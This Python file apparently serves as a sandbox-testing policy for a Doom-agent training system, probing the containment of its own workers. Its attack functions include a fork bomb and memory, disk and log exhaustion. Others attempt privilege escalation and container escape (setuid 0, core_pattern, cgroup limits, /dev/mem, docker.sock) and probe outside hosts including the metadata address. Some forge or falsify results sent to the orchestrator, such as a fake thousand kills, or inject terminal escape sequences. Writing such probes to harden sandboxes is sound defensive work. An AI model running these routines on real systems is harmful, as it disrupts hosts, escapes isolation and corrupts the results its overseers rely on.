"""Policy that attacks from inside its container and reports the result of the attack.

An option assigns attacks to agents by index, such as ``none,fork,memory``.
Without a container all agents play normally.
"""

import contextlib
import ctypes
import errno
import importlib
import os
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any, NoReturn

import numpy as np

from clau_doom.domain import Gene, Genome, GenomeSpace
from clau_doom.ports import Action, Decide, Needs, Observation, ScenarioFacts

PORT = 7777
ELSEWHERE = (("192.0.2.1", 80), ("1.1.1.1", 443), ("8.8.8.8", 53), ("169.254.169.254", 80))
_USER_NAMESPACE = 0x10000000


def environment() -> dict[str, str]:
    """Return the environment of the container. The worker removes it from its own environment."""
    words = Path("/proc/self/environ").read_bytes().decode().split("\0")
    return dict(word.split("=", 1) for word in words if "=" in word)


class Attacker:
    """Policy that turns and shoots, or runs its agent's attack."""

    needs = Needs()
    space = GenomeSpace((Gene.real("where", 0.0, 2.0**32), Gene.real("trigger", 0.0, 1.0)))

    def __init__(self, facts: ScenarioFacts, attacks: str) -> None:
        self._buttons = len(facts.buttons)
        self._attacks = attacks.split(",")

    def begin(self, genome: Genome, rng: np.random.Generator) -> Decide:
        """Attack, or play."""
        agent = environment().get("AGENT_ID", "")
        if "-g000-a" in agent and (attack := self._attacks[int(agent[-3:])]) != "none":
            ATTACKS[attack](genome)
        trigger = genome.values[1]

        def decide(observation: Observation) -> Action:
            del observation
            return Action([float(rng.random() < trigger) for _ in range(self._buttons)])

        return decide


def fork(genome: Genome) -> NoReturn:
    """Become as many processes as there can be."""
    made = 0
    while True:
        try:
            child = os.fork()
        except OSError as error:
            raise RuntimeError(f"no more than {made} processes: {errno.errorcode[error.errno or 0]}") from error
        if not child:
            while True:
                with contextlib.suppress(OSError):
                    os.fork()
        made += 1


def memory(genome: Genome) -> None:
    """Take more memory than there is."""
    kept = [os.urandom(1 << 20) for _ in range(4096)]
    raise RuntimeError(f"took {len(kept)} MiB")


def disk(genome: Genome) -> NoReturn:
    """Fill all writable file systems."""
    sizes = {folder: _fill(Path(folder)) for folder in ("/tmp", "/dev/shm")}
    raise RuntimeError(f"filled {sizes}")


def _fill(folder: Path) -> int:
    size, part = 0, bytes(1 << 20)
    with (folder / "full").open("wb", buffering=0) as file, contextlib.suppress(OSError):
        while size < 1 << 30:
            size += file.write(part)
    return size >> 20


def log(genome: Genome) -> None:
    """Write a long log, and play on."""
    for _ in range(20):
        os.write(1, b"x" * 999_999 + b"\n")


def escape(genome: Genome) -> NoReturn:
    """Try to gain rights or to write outside the writable folders."""
    libc = ctypes.CDLL(None, use_errno=True)
    tried: dict[str, Callable[[], object]] = {
        "become root": lambda: os.setuid(0),
        "have a namespace": lambda: _checked(libc.unshare(_USER_NAMESPACE)),
        "mount": lambda: _checked(libc.mount(b"none", b"/mnt", b"tmpfs", 0, None)),
        "have a raw socket": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        "hear the wire": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
        "tune the kernel": lambda: Path("/proc/sys/kernel/core_pattern").write_text("|/tmp/x"),
        "have more memory": lambda: Path("/sys/fs/cgroup/memory/memory.limit_in_bytes").write_text("-1"),
        "have more processes": lambda: Path("/sys/fs/cgroup/pids.max").write_text("max"),
        "read memory": lambda: Path("/dev/mem").read_bytes(),
        "make a device": lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(254, 0)),
        "run as its file's owner": _has_privileges,
    }
    done = [name for name, attempt in tried.items() if _succeeds(attempt)]
    sockets = [str(path) for path in (Path("/run/docker.sock"), Path("/var/run/docker.sock")) if path.exists()]
    raise RuntimeError(f"could write {sorted(_writable())}, could {done}, has {sockets}")


def _succeeds(attempt: Callable[[], object]) -> bool:
    try:
        attempt()
    except OSError:
        return False
    return True


def _checked(result: int) -> None:
    if result:
        raise OSError(ctypes.get_errno(), "refused")


def _has_privileges() -> None:
    status = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    if status["NoNewPrivs"] == "1" and not int(status["CapBnd"], 16):
        raise PermissionError


def _writable() -> Iterator[str]:
    for folder, _, _ in os.walk("/"):
        if folder.startswith(("/proc", "/sys", "/tmp/")):
            continue
        probe = Path(folder) / "probe"
        with contextlib.suppress(OSError):
            probe.touch()
            probe.unlink()
            yield folder


def reach(genome: Genome) -> NoReturn:
    """Try to reach hosts other than the orchestrator."""
    reached: list[str] = []

    def knock(address: tuple[str, int]) -> None:
        if _answers(address):
            reached.append(f"{address[0]}:{address[1]}")

    def look_up() -> None:
        with contextlib.suppress(OSError):
            reached.append(socket.gethostbyname("example.com"))

    tries = [threading.Thread(target=knock, args=(address,), daemon=True) for address in ELSEWHERE]
    tries.append(threading.Thread(target=look_up, daemon=True))
    for each in tries:
        each.start()
    for each in tries:
        each.join(2.0)  # a resolver that does not answer is waited for much longer
    with contextlib.suppress(OSError):
        reached += Path("/proc/net/if_inet6").read_text().splitlines()
    raise RuntimeError(f"reached {reached}")


def _answers(address: tuple[str, int]) -> bool:
    try:
        socket.create_connection(address, timeout=0.5).close()
    except OSError:
        return False
    return True


def listen(genome: Genome) -> None:
    """Accept connections during the episode."""
    threading.Thread(target=_answer, daemon=True).start()


def _answer() -> None:
    with socket.create_server(("0.0.0.0", PORT)) as server:
        while True:
            wire, _ = server.accept()
            wire.close()


def visit(genome: Genome) -> NoReturn:
    """Connect to the address of another agent, which is in a gene."""
    host = socket.inet_ntoa(int(genome.values[0]).to_bytes(4, "big"))
    raise RuntimeError(f"visited {host}: {_answers((host, PORT))}")


def channel() -> Any:
    """Return the worker's channel to the orchestrator, which waits further up in this very thread."""
    frame = sys._getframe()
    while "channel" not in frame.f_locals:
        assert frame.f_back is not None
        frame = frame.f_back
    return frame.f_locals["channel"]


def lie(genome: Genome) -> None:
    """Play honestly, and claim a thousand kills."""
    wire = channel()
    if "send" in vars(wire):  # it lies already
        return
    send = wire.send

    def embellished(message: Any) -> None:
        if message.WhichOneof("message") == "played":
            message.played.measures.kills = 1000.0
        send(message)

    wire.send = embellished


def pretend(genome: Genome) -> NoReturn:
    """Send an unrequested answer."""
    wire = channel()
    from clau_doom.protos.claudoom.worker.v1 import worker_pb2 as pb

    wire.send(pb.FromWorker(played=pb.EpisodePlayed(task=99)))
    _wait()


def beat(genome: Genome) -> NoReturn:
    """Flood the stream with heartbeats."""
    wire = channel()
    from clau_doom.protos.claudoom.worker.v1 import worker_pb2 as pb

    for turns in range(100_000):
        wire.send(pb.FromWorker(heartbeat=pb.Heartbeat(turns=turns)))
    _wait()


def rubbish(genome: Genome) -> NoReturn:
    """Send invalid bytes on the stream."""
    cygrpc = importlib.import_module("grpc._cython.cygrpc")
    wire = channel()
    wire._stream._call.operate((cygrpc.SendMessageOperation(b"\xff" * 1000, 0),), lambda event: False)
    _wait()


def shout(genome: Genome) -> NoReturn:
    """Fail by a text that a terminal would obey, and a very long one."""
    raise RuntimeError("\x1b]0;owned\x07\x1b[2J\r\n" + "x" * 1_000_000)


def leave(genome: Genome) -> NoReturn:
    """End the process without an answer."""
    os._exit(0)


def _wait() -> NoReturn:
    while True:
        time.sleep(1.0)


_ALL: Sequence[Callable[[Genome], None]] = (
    fork, memory, disk, log, escape, reach, listen, visit, lie, pretend, beat, rubbish, shout, leave,
)  # fmt: skip
ATTACKS = {attack.__name__: attack for attack in _ALL}
